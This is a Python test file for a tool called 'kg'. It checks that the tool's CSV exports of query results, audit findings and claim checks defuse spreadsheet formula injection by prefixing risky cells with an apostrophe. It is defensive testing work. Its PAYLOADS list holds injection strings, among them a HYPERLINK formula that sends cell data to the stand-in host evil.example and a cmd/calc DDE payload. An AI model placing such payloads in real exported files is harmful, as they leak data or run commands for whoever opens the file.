"""Every CSV kg writes is formula-safe: a cell a spreadsheet would run (= + - @ ...) opens with an apostrophe."""

from __future__ import annotations

import csv
import io
import subprocess
import sys

import pytest

from kg.audit import Finding
from kg.audit import to_csv as audit_csv
from kg.claims import CheckFinding
from kg.claims import to_csv as claims_csv
from kg.results import csv_cell
from kg.store import open_store

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1", "\uff1d1+1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d") and csv_cell(cell) != cell


def test_query_results_as_csv_through_the_cli(tmp_path):
    store_dir = tmp_path / "store"
    store = open_store(store_dir)
    del store
    values = " ".join('"' + p.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'
                      for p in PAYLOADS)
    sparql = tmp_path / "q.rq"
    sparql.write_text(f"SELECT ?x ?n WHERE {{ VALUES ?x {{ {values} }} BIND(-1.5 AS ?n) }}", encoding="utf-8")
    r = subprocess.run([sys.executable, "-m", "kg", "query", "--sparql", str(sparql), "--format", "csv",
                        "--store", str(store_dir)], capture_output=True, timeout=120)
    assert r.returncode == 0, r.stderr
    cells = _cells(r.stdout.decode("utf-8"))
    assert sorted(c for c in cells if c.startswith("'")) == sorted("'" + p for p in PAYLOADS)
    assert not [c for c in cells if _dangerous(c)]
    assert cells.count("-1.5") == len(PAYLOADS), "numbers are left alone"


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if "\r" not in p])  # these CSVs end lines with LF
def test_audit_and_check_csv_are_formula_safe(payload):
    finding = Finding(kind="label-mismatch", severity="warning", code="77013", system="CPT", document=payload,
                      line=3, message=payload, briefing=payload, official="x", suggestion=payload)
    check = CheckFinding(claim_id=payload, line=2, code="77013", kind="mue", severity="error", message=payload,
                         source="MUE 2025Q4")
    for text in (audit_csv([finding]), claims_csv([check])):
        cells = _cells(text)
        assert "'" + payload in cells and payload not in cells
        assert not [c for c in cells if _dangerous(c)]
